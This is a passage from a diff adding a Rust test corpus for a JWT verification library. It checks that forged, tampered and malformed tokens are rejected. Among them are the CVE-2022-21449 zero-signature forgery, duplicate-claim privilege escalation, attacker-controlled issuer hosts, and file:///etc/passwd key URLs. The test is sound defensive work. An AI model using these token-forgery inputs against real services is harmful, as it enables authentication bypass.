+        invalid_token("malformed token"),
+    );
+    t.row(
+        "header_is_a_json_array",
+        Static,
+        bearer(&unsigned(r#"["HS256"]"#, &good_claims(), "c2ln")),
+        invalid_token("malformed token"),
+    );
+    t.row(
+        "header_with_trailing_bytes",
+        Static,
+        bearer(&mint_raw(
+            Algorithm::HS256,
+            r#"{"alg":"HS256","kid":"hmac"}x"#,
+            &good_claims().to_string(),
+        )),
+        invalid_token("malformed token"),
+    );
+    t.row(
+        "jwe_five_segments_out_of_scope",
+        Static,
+        bearer("eyJhbGciOiJSU0EtT0FFUCJ9.a.b.c.d"),
+        invalid_token("malformed token"),
+    );
+
+    // =========================================================================================
+    t.section("Signature (RFC 7515 §5.2, RFC 8725 §3.4, §3.5)");
+    t.row(
+        "header_changed_after_signing",
+        Static,
+        bearer(&replace_segment(&hs256, 0, &b64(r#"{"alg":"HS256","kid":"hmac","typ":"at+jwt"}"#))),
+        invalid_token("invalid signature"),
+    );
+    t.row(
+        "claims_changed_after_signing_privilege_escalation",
+        Static,
+        bearer(&replace_segment(
+            &rs256,
+            1,
+            &b64(claims_with(|c| {
+                c.insert("scope".into(), json!("admin"));
+            })
+            .to_string()),
+        )),
+        invalid_token("invalid signature"),
+    );
+    t.row(
+        "signature_byte_changed",
+        Static,
+        bearer(&replace_segment(&rs256, 2, &flip_last_char(rs256.split('.').nth(2).unwrap()))),
+        invalid_token("invalid signature"),
+    );
+    t.row(
+        "stripped_signature_rs256",
+        Static,
+        bearer(&replace_segment(&rs256, 2, "")),
+        invalid_token("invalid signature"),
+    );
+    t.row(
+        "stripped_signature_hs256",
+        Static,
+        bearer(&replace_segment(&hs256, 2, "")),
+        invalid_token("invalid signature"),
+    );
+    t.row(
+        "signature_swapped_from_another_token",
+        Static,
+        {
+            let other = mint(
+                Algorithm::RS256,
+                &claims_with(|c| {
+                    c.insert("sub".into(), json!("x"));
+                }),
+            );
+            bearer(&replace_segment(&rs256, 2, other.split('.').nth(2).unwrap()))
+        },
+        invalid_token("invalid signature"),
+    );
+    t.row(
+        "hs384_tag_on_an_hs256_header",
+        Static,
+        bearer(&replace_segment(&hs256, 2, good(Algorithm::HS384).split('.').nth(2).unwrap())),
+        invalid_token("invalid signature"),
+    );
+    t.row(
+        "psychic_signature_es256_cve_2022_21449",
+        Static,
+        bearer(&unsigned(r#"{"alg":"ES256","kid":"p256"}"#, &good_claims(), &b64([0u8; 64]))),
+        invalid_token("invalid signature"),
+    );
+    t.row(
+        "psychic_signature_es384_cve_2022_21449",
+        Static,
+        bearer(&unsigned(r#"{"alg":"ES384","kid":"p384"}"#, &good_claims(), &b64([0u8; 96]))),
+        invalid_token("invalid signature"),
+    );
+    t.row(
+        "ecdsa_der_signature_rfc7518_3_4",
+        Static,
+        {
+            let input = format!(
+                "{}.{}",
+                b64(r#"{"alg":"ES256","kid":"p256"}"#),
+                b64(good_claims().to_string())
+            );
+            let der = der_from_fixed(&sign(Algorithm::ES256, input.as_bytes()));
+            bearer(&format!("{input}.{}", b64(der)))
+        },
+        invalid_token("invalid signature"),
+    );
+    t.row(
+        "ed25519_malleable_signature_s_plus_l_rfc8032_5_1_7",
+        Static,
+        {
+            let token = good(Algorithm::EdDSA);
+            let signature = base64_decode(token.split('.').nth(2).unwrap());
+            bearer(&replace_segment(&token, 2, &b64(ed25519_s_plus_l(&signature))))
+        },
+        invalid_token("invalid signature"),
+    );
+    t.row(
+        "rsa_signature_truncated",
+        Static,
+        {
+            let signature = base64_decode(rs256.split('.').nth(2).unwrap());
+            bearer(&replace_segment(&rs256, 2, &b64(&signature[..255])))
+        },
+        invalid_token("invalid signature"),
+    );
+    t.row(
+        "signature_oversized",
+        Static,
+        bearer(&replace_segment(&rs256, 2, &b64([7u8; 2048]))),
+        invalid_token("invalid signature"),
+    );
+    t.row(
+        "signature_with_base64_padding_rfc7515_2",
+        Static,
+        bearer(&format!("{rs256}==")),
+        invalid_token("malformed token"),
+    );
+    t.row(
+        "signature_non_canonical_base64_rfc4648_3_5",
+        Static,
+        bearer(&replace_segment(&hs256, 2, &non_canonical(hs256.split('.').nth(2).unwrap()))),
+        invalid_token("invalid signature"),
+    );
+    t.row(
+        "header_non_canonical_base64_rfc4648_3_5",
+        Static,
+        {
+            // Re-signed over the altered header, so only the strict decoding can refuse it.
+            let header = non_canonical(&b64(r#"{"alg":"HS256","kid":"hmac"}"#));
+            let input = format!("{header}.{}", b64(good_claims().to_string()));
+            bearer(&format!("{input}.{}", b64(sign(Algorithm::HS256, input.as_bytes()))))
+        },
+        invalid_token("malformed token"),
+    );
+
+    // =========================================================================================
+    t.section("Claims (RFC 7519, RFC 8725, RFC 9068)");
+    let with = |edit: &dyn Fn(&mut serde_json::Map<String, Value>)| {
+        bearer(&mint(Algorithm::ES256, &claims_with(|c| edit(c))))
+    };
+    t.row(
+        "expired_beyond_leeway_rfc7519_4_1_4",
+        Static,
+        with(&|c| {
+            c.insert("exp".into(), json!(now - 61));
+        }),
+        invalid_token("token expired"),
+    );
+    t.row(
+        "expired_within_leeway_rfc7519_4_1_4",
+        Static,
+        with(&|c| {
+            c.insert("exp".into(), json!(now - 30));
+        }),
+        OK,
+    );
+    t.row(
+        "not_yet_valid_beyond_leeway_rfc7519_4_1_5",
+        Static,
+        with(&|c| {
+            c.insert("nbf".into(), json!(now + 120));
+        }),
+        invalid_token("token not yet valid"),
+    );
+    t.row(
+        "exp_missing_required_by_default_rfc8725_3_10",
+        Static,
+        with(&|c| {
+            c.remove("exp");
+        }),
+        invalid_token("missing required claim"),
+    );
+    t.row(
+        "exp_as_string_rfc7519_2_numericdate",
+        Static,
+        with(&|c| {
+            c.insert("exp".into(), json!("4102444800"));
+        }),
+        invalid_token("invalid claim type"),
+    );
+    t.row(
+        "exp_as_null_rfc7519_2_numericdate",
+        Static,
+        with(&|c| {
+            c.insert("exp".into(), Value::Null);
+        }),
+        invalid_token("invalid claim type"),
+    );
+    t.row(
+        "exp_as_array_rfc7519_2_numericdate",
+        Static,
+        with(&|c| {
+            c.insert("exp".into(), json!([4102444800u64]));
+        }),
+        invalid_token("invalid claim type"),
+    );
+    t.row(
+        "nbf_as_string_rfc7519_2_numericdate",
+        Static,
+        with(&|c| {
+            c.insert("nbf".into(), json!(now.to_string()));
+        }),
+        invalid_token("invalid claim type"),
+    );
+    t.row(
+        "iat_as_string_rfc7519_2_numericdate",
+        Static,
+        with(&|c| {
+            c.insert("iat".into(), json!("yesterday"));
+        }),
+        invalid_token("invalid claim type"),
+    );
+    t.row(
+        "iss_prefix_of_trusted_issuer_rfc7519_4_1_1",
+        Static,
+        with(&|c| {
+            c.insert("iss".into(), json!(format!("{ISSUER}.attacker.example")));
+        }),
+        invalid_token("invalid issuer"),
+    );
+    t.row(
+        "iss_trailing_slash_rfc7519_4_1_1",
+        Static,
+        with(&|c| {
+            c.insert("iss".into(), json!(format!("{ISSUER}/")));
+        }),
+        invalid_token("invalid issuer"),
+    );
+    t.row(
+        "iss_case_folded_rfc7519_4_1_1",
+        Static,
+        with(&|c| {
+            c.insert("iss".into(), json!(ISSUER.to_uppercase()));
+        }),
+        invalid_token("invalid issuer"),
+    );
+    t.row(
+        "iss_missing_rfc7519_4_1_1",
+        Static,
+        with(&|c| {
+            c.remove("iss");
+        }),
+        invalid_token("missing required claim"),
+    );
+    t.row(
+        "iss_as_array_rfc7519_4_1_1",
+        Static,
+        with(&|c| {
+            c.insert("iss".into(), json!([ISSUER]));
+        }),
+        invalid_token("invalid claim type"),
+    );
+    t.row(
+        "iss_json_escapes_are_the_same_string_rfc8259_7",
+        Static,
+        bearer(&mint_raw(
+            Algorithm::HS256,
+            r#"{"alg":"HS256","kid":"hmac"}"#,
+            &good_claims().to_string().replace("https://", r"https:\/\/"),
+        )),
+        OK,
+    );
+    t.row(
+        "aud_array_with_one_match_rfc7519_4_1_3",
+        Static,
+        with(&|c| {
+            c.insert("aud".into(), json!(["other-api", AUDIENCE]));
+        }),
+        OK,
+    );
+    t.row(
+        "aud_mismatch_rfc8725_3_9",
+        Static,
+        with(&|c| {
+            c.insert("aud".into(), json!("other-api"));
+        }),
+        invalid_token("invalid audience"),
+    );
+    t.row(
+        "aud_prefix_rfc8725_3_9",
+        Static,
+        with(&|c| {
+            c.insert("aud".into(), json!(format!("{AUDIENCE}-evil")));
+        }),
+        invalid_token("invalid audience"),
+    );
+    t.row(
+        "aud_empty_array_rfc8725_3_9",
+        Static,
+        with(&|c| {
+            c.insert("aud".into(), json!([]));
+        }),
+        invalid_token("invalid audience"),
+    );
+    t.row(
+        "aud_missing_rfc8725_3_9",
+        Static,
+        with(&|c| {
+            c.remove("aud");
+        }),
+        invalid_token("missing required claim"),
+    );
+    t.row(
+        "aud_as_number",
+        Static,
+        with(&|c| {
+            c.insert("aud".into(), json!(7));
+        }),
+        invalid_token("invalid claim type"),
+    );
+    t.row(
+        "duplicate_exp_first_past_then_future_rfc7519_4",
+        Static,
+        bearer(&mint_raw(
+            Algorithm::ES256,
+            r#"{"alg":"ES256","kid":"p256"}"#,
+            &format!(
+                r#"{{"iss":"{ISSUER}","aud":"{AUDIENCE}","sub":"u","exp":1,"exp":{}}}"#,
+                now + 600
+            ),
+        )),
+        invalid_token("malformed token"),
+    );
+    t.row(
+        "duplicate_sub_rfc7519_4",
+        Static,
+        bearer(&mint_raw(
+            Algorithm::ES256,
+            r#"{"alg":"ES256","kid":"p256"}"#,
+            &format!(
+                r#"{{"iss":"{ISSUER}","aud":"{AUDIENCE}","sub":"alice","sub":"admin","exp":{}}}"#,
+                now + 600
+            ),
+        )),
+        invalid_token("malformed token"),
+    );
+    t.row("duplicate_scope_privilege_escalation_rfc7519_4", Static,
+        bearer(&mint_raw(Algorithm::ES256, r#"{"alg":"ES256","kid":"p256"}"#,
+            &format!(r#"{{"iss":"{ISSUER}","aud":"{AUDIENCE}","scope":"read","exp":{},"scope":"admin"}}"#, now + 600))),
+        invalid_token("malformed token"));
+    t.row("duplicate_member_nested_in_claims_rfc7519_4", Static,
+        bearer(&mint_raw(Algorithm::ES256, r#"{"alg":"ES256","kid":"p256"}"#,
+            &format!(r#"{{"iss":"{ISSUER}","aud":"{AUDIENCE}","sub":"u","exp":{},"org":{{"role":"user","role":"admin"}}}}"#, now + 600))),
+        invalid_token("malformed token"));
+    t.row(
+        "deeply_nested_claims_refused_cheaply",
+        Static,
+        bearer(&mint_raw(
+            Algorithm::HS256,
+            r#"{"alg":"HS256","kid":"hmac"}"#,
+            &format!(
+                r#"{{"iss":"{ISSUER}","aud":"{AUDIENCE}","exp":{},"x":{}{}}}"#,
+                now + 600,
+                "[".repeat(1000),
+                "]".repeat(1000)
+            ),
+        )),
+        invalid_token("malformed token"),
+    );
+    t.row(
+        "very_large_claims_refused_by_the_size_cap_first",
+        Static,
+        with(&|c| {
+            c.insert("blob".into(), json!("x".repeat(20_000)));
+        }),
+        invalid_token("token too large"),
+    );
+    t.row(
+        "sub_not_a_string_rfc7519_4_1_2",
+        Static,
+        with(&|c| {
+            c.insert("sub".into(), json!(7));
+        }),
+        invalid_token("invalid claim type"),
+    );
+    // Several issuers: the unverified `iss` only picks whose keys to try.
+    let issuer_b =
+        |claims: &Value| hs256_with(OTHER_SECRET, r#"{"alg":"HS256"}"#, &claims.to_string());
+    let from_b = claims_with(|c| {
+        c.insert("iss".into(), json!(OTHER_ISSUER));
+    });
+    t.row("several_issuers_first_issuer_accepted", Issuers, bearer(&good(Algorithm::ES256)), OK);
+    t.row("several_issuers_second_issuer_accepted", Issuers, bearer(&issuer_b(&from_b)), OK);
+    t.row_fetching(
+        "several_issuers_unknown_iss_never_fetches",
+        Issuers,
+        bearer(&signed(
+            Algorithm::EdDSA,
+            Some("unknown-kid"),
+            json!({}),
+            &claims_with(|c| {
+                c.insert("iss".into(), json!("https://attacker.example"));
+            }),
+        )),
+        invalid_token("invalid issuer"),
+        0,
+    );
+    t.row_fetching(
+        "several_issuers_iss_missing_never_fetches",
+        Issuers,
+        bearer(&signed(
+            Algorithm::EdDSA,
+            Some("unknown-kid"),
+            json!({}),
+            &claims_with(|c| {
+                c.remove("iss");
+            }),
+        )),
+        invalid_token("missing required claim"),
+        0,
+    );
+    t.row_fetching(
+        "several_issuers_iss_not_a_string_never_fetches",
+        Issuers,
+        bearer(&signed(
+            Algorithm::EdDSA,
+            Some("unknown-kid"),
+            json!({}),
+            &claims_with(|c| {
+                c.insert("iss".into(), json!({"$gt": ""}));
+            }),
+        )),
+        invalid_token("malformed token"),
+        0,
+    );
+    t.row_fetching(
+        "several_issuers_duplicate_iss_to_pick_keys_rfc7519_4",
+        Issuers,
+        bearer(&hs256_with(
+            OTHER_SECRET,
+            r#"{"alg":"HS256"}"#,
+            &format!(
+                r#"{{"iss":"{OTHER_ISSUER}","iss":"{ISSUER}","aud":"{AUDIENCE}","exp":{}}}"#,
+                now + 600
+            ),
+        )),
+        invalid_token("malformed token"),
+        0,
+    );
+    t.row(
+        "several_issuers_second_issuers_token_claiming_the_first",
+        Issuers,
+        bearer(&issuer_b(&good_claims())),
+        invalid_token("invalid signature"),
+    );
+    t.row(
+        "several_issuers_first_issuers_token_claiming_the_second",
+        Issuers,
+        bearer(&mint(Algorithm::ES256, &from_b)),
+        invalid_token("algorithm not allowed"),
+    );
+
+    // =========================================================================================
+    t.section("Key sources (RFC 7517, OpenID Connect Discovery)");
+    t.row_fetching(
+        "never_fetched_key_set_fails_closed",
+        NeverFetched,
+        bearer(&rs256),
+        invalid_token("verification keys unavailable"),
+        0,
+    );
+    t.row_fetching(
+        "enc_key_never_verifies_signatures_rfc7517_4_2",
+        Remote,
+        bearer(&signed(Algorithm::RS256, Some("enc-rsa"), json!({}), &good_claims())),
+        invalid_token("no matching key"),
+        0,
+    );
+    t.row_fetching(
+        "discovery_document_for_another_issuer_oidc_discovery_4_3",
+        DiscoveryMismatch,
+        bearer(&rs256),
+        invalid_token("verification keys unavailable"),
+        1,
+    );
+    t.row_fetching("remote_set_known_key_verifies_without_a_fetch", Remote, bearer(&rs256), OK, 0);
+
+    // =========================================================================================
+    // Sender-constrained tokens (RFC 9449, DPoP): not yet implemented. Rows to add with it:
+    // - dpop_proof_typ_not_dpop_jwt_rfc9449_4_3
+    // - dpop_proof_symmetric_or_none_alg_rfc9449_4_3
+    // - dpop_proof_jwk_is_private_or_signature_fails_rfc9449_4_3
+    // - dpop_proof_htm_or_htu_mismatch_rfc9449_4_3
+    // - dpop_proof_iat_outside_window_rfc9449_11_1
+    // - dpop_proof_jti_replayed_rfc9449_11_1
+    // - dpop_proof_ath_mismatch_rfc9449_4_3
+    // - dpop_cnf_jkt_mismatch_rfc9449_6_1
+    // - dpop_bound_token_sent_as_bearer_rfc9449_7_1
+
+    t
+}
+
+fn base64_decode(segment: &str) -> Vec<u8> {
+    use base64::Engine;
+    base64::engine::general_purpose::URL_SAFE_NO_PAD.decode(segment).unwrap()
+}
+
+// ---------------------------------------------------------------------------------------------
+// Log capture, for "secrets and tokens never appear in logs".
+
+#[derive(Clone, Default)]
+struct Captured(Arc<Mutex<Vec<u8>>>);
+
+impl Write for Captured {
+    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
+        self.0.lock().unwrap().extend_from_slice(buf);
+        Ok(buf.len())
+    }
+    fn flush(&mut self) -> std::io::Result<()> {
+        Ok(())
+    }
+}
+
+impl<'a> tracing_subscriber::fmt::MakeWriter<'a> for Captured {
+    type Writer = Captured;
+    fn make_writer(&'a self) -> Captured {
+        self.clone()
+    }
+}
+
+// ---------------------------------------------------------------------------------------------
+
+#[tokio::test]
+async fn attack_corpus() {
+    let started = Instant::now();
+    let logs = Captured::default();
+    let subscriber = tracing_subscriber::fmt()
+        .with_max_level(tracing::Level::TRACE)
+        .with_writer(logs.clone())
+        .with_ansi(false)
+        .finish();
+    let _guard = tracing::subscriber::set_default(subscriber);
+
+    let apps = apps().await;
+    let rows = table(&apps).rows;
+    let fetches_before = apps.idp_fetches();
+
+    let mut failures = Vec::new();
+    let mut tokens_seen = Vec::new();
+    for row in rows {
+        let section = row.section;
+        let token_text = row
+            .request
+            .headers()
+            .get(header::AUTHORIZATION)
+            .map(|v| String::from_utf8_lossy(v.as_bytes()).into_owned())
+            .unwrap_or_default();
+        let token = token_text.split_whitespace().nth(1).unwrap_or_default().to_owned();
+        if token.len() > 40 {
+            tokens_seen.push(token.clone());
+        }
+        let before = apps.idp_fetches();
+        let response = tokio::time::timeout(
+            Duration::from_secs(10),
+            apps.router(row.target).oneshot(row.request),
+        )
+        .await
+        .unwrap_or_else(|_| panic!("{}: no answer within 10 s", row.name))
+        .unwrap();
+        let fetched = apps.idp_fetches() - before;
+        let status = response.status();
+        let challenge = challenge(&response).map(str::to_owned);
+        let body = body_text(response).await;
+
+        let mut wrong = Vec::new();
+        if status != row.status || challenge != row.challenge {
+            wrong.push(format!(
+                "got {status} {challenge:?}, expected {} {:?}",
+                row.status, row.challenge
+            ));
+        }
+        if fetched != row.fetches {
+            wrong.push(format!("{fetched} fetches, {} expected", row.fetches));
+        }
+        if status == StatusCode::INTERNAL_SERVER_ERROR {
+            wrong.push("answered 500".into());
+        }
+        if status != StatusCode::OK && !body.is_empty() {
+            wrong.push(format!("refusal with a body: {body:?}"));
+        }
+        let echoed = challenge.as_deref().unwrap_or_default();
+        if token.len() > 8 && (echoed.contains(&token) || body.contains(&token)) {
+            wrong.push("the answer echoes the token".into());
+        }
+        for unpublished in ["secret-internal-kid-42", "attacker", "rotated-in-later", "enc-rsa"] {
+            if echoed.contains(unpublished) {
+                wrong.push(format!("the challenge names kid {unpublished}"));
+            }
+        }
+        if !wrong.is_empty() {
+            failures.push(format!("[{section}] {}: {}", row.name, wrong.join("; ")));
+        }
+    }
+
+    // One unknown-kid refresh on the IdP within its cooldown, and the discovery document.
+    let total_fetches = apps.idp_fetches() - fetches_before;
+    if total_fetches != 2 {
+        failures.push(format!("the table made {total_fetches} fetches, 2 expected"));
+    }
+    if apps.attacker.fetches() != 0 {
+        failures.push(format!(
+            "the attacker's server was asked {} times: {:?}",
+            apps.attacker.fetches(),
+            apps.attacker.requests().iter().map(|r| r.path.clone()).collect::<Vec<_>>()
+        ));
+    }
+
+    // Always: tokens and secrets never appear in logs.
+    let logs = String::from_utf8_lossy(&logs.0.lock().unwrap()).into_owned();
+    assert!(logs.contains("jwt_layer"), "the log capture saw nothing from the crate");
+    for token in &tokens_seen {
+        let signature = token.rsplit('.').next().unwrap_or_default();
+        if signature.len() > 20 && logs.contains(signature) {
+            failures.push(format!("a token's signature appears in the logs: {signature}"));
+        }
+        if logs.contains(token.as_str()) {
+            failures.push("a token appears in the logs".into());
+        }
+    }
+    for secret in [b64(HMAC_SECRET), b64(OTHER_SECRET), String::from_utf8_lossy(HMAC_SECRET).into()]
+    {
+        if logs.contains(&secret) {
+            failures.push("a secret appears in the logs".into());
+        }
+    }
+
+    assert!(failures.is_empty(), "{} rows failed:\n{}", failures.len(), failures.join("\n"));
+    assert!(started.elapsed() < Duration::from_secs(30), "took {:?}", started.elapsed());
+}
+
+#[test]
+fn key_loading_refuses_weak_and_unsafe_keys() {
+    // RFC 8725 §3.5 / RFC 7518 §3.3: RSA keys under 2048 bits are refused when loaded.
+    let weak = std::fs::read_to_string("tests/fixtures/independent/pem/rsa1024.jwk.json").unwrap();
+    assert!(matches!(VerifyingKey::from_jwk(&weak), Err(KeyError::WeakRsaKey { bits: 1024 })));
+    let weak_pem = std::fs::read("tests/fixtures/independent/pem/rsa1024_spki.pem").unwrap();
+    assert!(matches!(StaticKeys::from_pem(weak_pem), Err(KeyError::WeakRsaKey { bits: 1024 })));
+    let set = format!(r#"{{"keys":[{weak}]}}"#);
+    assert!(matches!(Jwks::from_json(&set), Err(KeyError::NoUsableKeys)));
+
+    // RFC 7518 §3.2: an HMAC secret shorter than the hash output.
+    assert!(matches!(StaticKeys::hmac([7u8; 31]), Err(KeyError::HmacSecretTooShort { len: 31 })));
+    assert!(StaticKeys::hmac([7u8; 32]).is_ok());
+
+    // Remote key sets: https only, plain http to loopback; no other scheme.
+    for url in ["http://idp.example/jwks", "ftp://127.0.0.1/jwks", "file:///etc/passwd"] {
+        assert!(RemoteJwks::builder(url).build().is_err(), "{url} must be refused");
+    }
+    assert!(RemoteJwks::builder("https://idp.example/jwks").build().is_ok());
+
+    // A `use: enc` key alone is no usable set.
+    let enc = json!({"keys": [enc_only_rsa_jwk()]}).to_string();
+    assert!(matches!(Jwks::from_json(&enc), Err(KeyError::NoUsableKeys)));
+}
